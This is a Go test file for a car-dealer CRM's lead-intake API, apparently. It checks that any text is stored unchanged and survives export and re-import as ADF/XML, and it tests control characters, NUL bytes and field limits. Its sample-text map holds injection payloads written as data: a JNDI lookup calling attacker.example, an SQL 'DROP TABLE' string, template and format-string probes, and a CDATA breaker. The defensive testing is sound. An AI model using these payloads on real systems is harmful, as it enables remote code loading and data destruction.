package intaketest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rooftop-crm/rooftop/internal/apptest"
	"github.com/rooftop-crm/rooftop/internal/platform/schema"
)

// everyText is an enquiry with a text in every field that takes any; mark makes them different from each other.
func everyText(text func(mark string) string) object {
	vehicle := func(mark string, extra object) object {
		v := object{
			"make": text(mark + " make"), "model": text(mark + " model"), "trim": text(mark + " trim"), "stock_number": text(mark + " stock"),
			"body_style": text(mark + " body"), "condition": "used", "year": 2021, "odometer": object{"value": 38450, "unit": "km"},
			"price": object{"amount_minor": 1999050, "currency": "EUR"},
			"extras": object{
				"doors": text(mark + " doors"), "transmission": text(mark + " gear"), "exterior_color": text(mark + " out"), "interior_color": text(mark + " in"),
				"comments": text(mark + " comments"), "price_comments": text(mark + " price"), "make": text(mark + " odd"), "couleur préférée <1>": text(mark + " free"),
				"option_1": text(mark + " option"), "option_2": text(mark + " option b"), "option_10": text(mark + " gap"),
			},
		}
		maps.Copy(v, extra)
		return v
	}
	return object{
		"type": "finance", "channel": "chat", "source": text("source"), "comments": text("comments"), "test": true,
		"provider": object{"name": text("provider"), "service": text("service"), "url": text("url")}, "vendor": object{"name": text("vendor")},
		"requested_at": "2026-03-29T01:30:00Z",
		"contact": object{
			"civility": "Mme & <M> 🚗]]>", "first_name": text("first"), "last_name": text("last"), "full_name": text("full"), "company_name": text("company"), "language": "fr-CA",
			"emails": []object{{"address": "iris@fr.example", "preferred": true}}, "phones": []object{{"raw": "01 99 00 12 34", "type": "work"}},
			"addresses": []object{{"lines": []string{text("line"), text("line b")}, "postal_code": "42000", "city": text("city"), "region": text("region"), "country": "FR", "type": "home"}},
		},
		"answers":              []object{{"question": text("question"), "answer": text("answer")}, {"question": text("no answer"), "answer": ""}},
		"vehicles_of_interest": []object{vehicle("first", object{"interest": "test_drive"}), vehicle("second", object{"interest": "lease", "primary": true})},
		"trade_ins":            []object{vehicle("third", object{"interest": "sell"}), vehicle("fourth", object{"interest": "trade_in"})},
		"finance":              object{"method": "lease", "down_payment": object{"amount_minor": 200000, "currency": "EUR"}, "monthly": object{"amount_minor": 25000, "currency": "EUR"}},
		"timeframe":            object{"description": text("timeframe"), "earliest": "2026-04-01T00:00:00Z", "latest": "2026-05-01T10:00:00Z"},
		"external_refs":        []object{{"source": text("ref source"), "id": text("ref id")}},
		"attribution": object{
			"utm_source": text("utm source"), "utm_medium": text("medium"), "utm_campaign": text("campaign"), "utm_term": text("term"), "utm_content": text("content"),
			"gclid": text("gclid"), "landing_url": text("landing"), "form_name": text("form"), "first_source": text("first source"), "last_source": text("last source"),
		},
		"consents": []object{{"channel": "email", "purpose": "marketing", "given": true, "text": text("consent"), "at": "2026-03-29T01:00:00Z"}, {"channel": "sms", "purpose": "profiling", "given": false}},
		"custom":   object{"note": text("custom")},
	}
}

// texts are what senders and attackers write.
var texts = map[string]string{
	"plain":         "Saturday",
	"accents":       "Hélène d’Été – œuvre, 18 000 €",
	"scripts":       "Ελλάδα Москва 東京 서울 مرحبا שלום ไทย",
	"astral":        "🚗👩‍👩‍👧‍👦🏳️‍🌈 𝒳 \U0010FFFD",
	"combining":     "e\u0301a\u0308\u0323 ﷺ \u202eabc\u202c",
	"end of CDATA":  "before]]>after <![CDATA[x]]>",
	"markup":        `<b>bold</b> & "quotes" 'single' <br/> <!-- no --> <?pi?>`,
	"entities":      "O&#39;Casey &amp;amp; &lt;b&gt; &eacute; &unknown;",
	"template":      "{{7*7}} ${jndi:ldap://attacker.example/a} %s %n",
	"sql":           "Robert'); DROP TABLE leads;-- \\ \\' E'\\x00'",
	"line ends":     "one\ntwo\r\nthree\rfour\tfive",
	"unusual space": "a\u00a0b\u2003c\u2028d\ufeffe\u200bf",
}

func TestAnyTextIsKept(t *testing.T) {
	t.Parallel()
	p := apptest.New(t)
	for name, sample := range texts {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a, b := p.Account(t), p.Account(t)
			sent := everyText(func(mark string) string { return mark + " " + sample + "." })
			made := a.Post("/v1/leads", sent).Is(http.StatusCreated)
			lead := leadOf(a.Caller, made.Str("id"))
			for _, field := range []string{"source", "comments", "provider", "vendor", "answers", "timeframe", "external_refs", "attribution", "custom"} {
				assert.Equal(t, plain(t, sent[field]), lead[field], field)
			}
			for field, list := range map[string]int{"vehicles_of_interest": 2, "trade_ins": 2} {
				for i := range list {
					got, want := obj(items(lead[field])[i]), obj(items(plain(t, sent[field]))[i])
					for name, value := range want {
						assert.Equal(t, value, got[name], "%s %d %s", field, i, name)
					}
				}
			}
			back := sendADF(b.Caller, writeADF(t, a.Caller, made.Str("id"))).Is(http.StatusCreated)
			assert.Empty(t, back.List("warnings"))
			again := leadOf(b.Caller, back.Str("leads.0.id"))
			sameLead(t, lead, again)
			for _, field := range []string{"channel", "test"} {
				assert.Equal(t, lead[field], again[field], field)
			}
			for _, field := range []string{"civility", "language"} {
				assert.Equal(t, obj(lead["contact"])[field], obj(again["contact"])[field], field)
			}
		})
	}
}

// plain is a value as JSON gives it back.
func plain(t *testing.T, v any) any {
	t.Helper()
	var out any
	require.NoError(t, json.Unmarshal(mustJSON(t, v), &out))
	return out
}

func TestControlCharacters(t *testing.T) {
	t.Parallel()
	p := apptest.New(t)
	a, b := p.Account(t), p.Account(t)
	var controls strings.Builder
	for r := rune(1); r < 0x20; r++ {
		controls.WriteRune(r)
	}
	controls.WriteString("\x7f\u0080\u009f\ufffe\uffff")
	made := a.Post("/v1/leads", everyText(func(mark string) string { return mark + controls.String() + "." })).Is(http.StatusCreated)
	lead := leadOf(a.Caller, made.Str("id"))
	assert.Equal(t, "comments"+controls.String()+".", lead["comments"], "stored and returned as sent")
	assert.Equal(t, "answer"+controls.String()+".", obj(items(lead["answers"])[0])["answer"])

	doc := writeADF(t, a.Caller, made.Str("id"))
	assert.Equal(t, doc, bytes.ToValidUTF8(doc, nil))
	back := sendADF(b.Caller, doc).Is(http.StatusCreated)
	again := leadOf(b.Caller, back.Str("leads.0.id"))
	assert.Equal(t, "comments\t\n\r\x7f\u0080\u009f.", again["comments"], "but for what XML cannot carry")
	assert.Equal(t, "question\t\n\r\x7f\u0080\u009f.", obj(items(again["answers"])[0])["question"])
}

// TestNUL wants the field named, wherever the one character is that Postgres does not take as text.
func TestNUL(t *testing.T) {
	t.Parallel()
	a := apptest.New(t).Account(t)
	type place struct {
		pointer string
		set     func(any)
		was     string
	}
	var places []place
	var walk func(at string, v any, set func(any))
	walk = func(at string, v any, set func(any)) {
		switch v := v.(type) {
		case object:
			for name := range v {
				walk(at+"/"+strings.NewReplacer("~", "~0", "/", "~1").Replace(name), v[name], func(x any) { v[name] = x })
			}
		case []any:
			for i := range v {
				walk(fmt.Sprint(at, "/", i), v[i], func(x any) { v[i] = x })
			}
		case string:
			places = append(places, place{at, set, v})
		}
	}
	body := obj(plain(t, everyText(func(mark string) string { return mark })))
	walk("", body, nil)
	require.Greater(t, len(places), 60)
	for _, at := range places {
		at.set(at.was + "\x00b")
		got := a.Post("/v1/leads", body).Is(http.StatusUnprocessableEntity)
		assert.Contains(t, pick(got.List("errors"), "pointer"), at.pointer, "%s", got.Body)
		at.set(at.was)
	}
	assert.Zero(t, leadsOf(a.Caller))
	a.Post("/v1/leads", body).Is(http.StatusCreated)
}

func TestLimits(t *testing.T) {
	t.Parallel()
	a := apptest.New(t).Account(t)
	many := func(n int, of func(i int) any) []any {
		out := make([]any, n)
		for i := range out {
			out[i] = of(i)
		}
		return out
	}
	car := func(i int) any { return object{"make": fmt.Sprint("Make ", i)} }
	deep := func(n int) any {
		v := any("x")
		for range n {
			v = object{"a": v}
		}
		return v
	}
	tests := []struct {
		name    string
		at, bad string // the field that is filled, and the pointer of the mistake when it is one too many
		most    int
		fill    func(n int) any
	}{
		{"comments", "comments", "/comments", 20_000, func(n int) any { return strings.Repeat("é", n) }},
		{"source", "source", "/source", 200, func(n int) any { return strings.Repeat("🚗", n) }},
		{"vehicles", "vehicles_of_interest", "/vehicles_of_interest", 20, func(n int) any { return many(n, car) }},
		{"trade-ins", "trade_ins", "/trade_ins", 20, func(n int) any { return many(n, car) }},
		{"answers", "answers", "/answers", 200, func(n int) any {
			return many(n, func(i int) any { return object{"question": fmt.Sprint(i), "answer": "yes"} })
		}},
		{"answer", "answers", "/answers/0/answer", 2000, func(n int) any { return []any{object{"question": "q", "answer": strings.Repeat("x", n)}} }},
		{"consents", "consents", "/consents", 50, func(n int) any {
			return many(n, func(i int) any {
				return object{"channel": "email", "purpose": "marketing", "given": true, "text": fmt.Sprint(i)}
			})
		}},
		{"references", "external_refs", "/external_refs", 20, func(n int) any {
			return many(n, func(i int) any { return object{"source": "crm", "id": fmt.Sprint(n, "-", i)} })
		}},
		{"extras", "trade_ins", "/trade_ins/0/extras", 100, func(n int) any {
			extras := object{}
			for i := range n {
				extras[fmt.Sprint("key ", i)] = "x"
			}
			return []any{object{"make": "Renault", "extras": extras}}
		}},
		{"extra", "trade_ins", "/trade_ins/0/extras", 2000, func(n int) any {
			return []any{object{"make": "Renault", "extras": object{"note": strings.Repeat("x", n)}}}
		}},
		{"mileage", "trade_ins", "/trade_ins/0/odometer", 10_000_000, func(n int) any { return []any{object{"make": "Renault", "odometer": object{"value": n, "unit": "km"}}} }},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			send := func(n int) *apptest.Answer {
				return a.For(t).Post("/v1/leads", object{
					"contact": object{"full_name": "Iris Falk", "emails": []object{{"address": fmt.Sprintf("p%d@fr.example", i)}}}, tt.at: tt.fill(n),
				})
			}
			made := send(tt.most).Is(http.StatusCreated)
			assert.NotEmpty(t, made.At(tt.at))
			writeADF(t, a.For(t), made.Str("id"))
			over := send(tt.most + 1).Is(http.StatusUnprocessableEntity)
			assert.Contains(t, pick(over.List("errors"), "pointer"), tt.bad, "%s", over.Body)
		})
	}
	t.Run("deep custom", func(t *testing.T) {
		t.Parallel()
		c := a.For(t)
		who := object{"full_name": "Iris Falk", "emails": []object{{"address": "deep@fr.example"}}}
		made := c.Post("/v1/leads", object{"contact": who, "custom": deep(schema.MaxDepth - 1)}).Is(http.StatusCreated)
		assert.Equal(t, plain(t, deep(schema.MaxDepth-1)), leadOf(c, made.Str("id"))["custom"])
		over := c.Post("/v1/leads", object{"contact": who, "custom": deep(schema.MaxDepth + 1)})
		assert.Contains(t, []int{http.StatusBadRequest, http.StatusUnprocessableEntity}, over.Status, "%s", over.Body)
	})
	t.Run("a megabyte", func(t *testing.T) {
		t.Parallel()
		c := a.For(t)
		body := bytes.Repeat([]byte(" "), 1<<20+1)
		copy(body, `{"contact":{"full_name":"Iris Falk","emails":[{"address":"mib@fr.example"}]}}`)
		c.Send(http.MethodPost, "/v1/leads", body[:1<<20], "Content-Type", "application/json").Is(http.StatusCreated)
		over := c.Send(http.MethodPost, "/v1/leads", body, "Content-Type", "application/json").Is(http.StatusRequestEntityTooLarge)
		assert.Equal(t, "request.too_large", over.Code())
	})
}
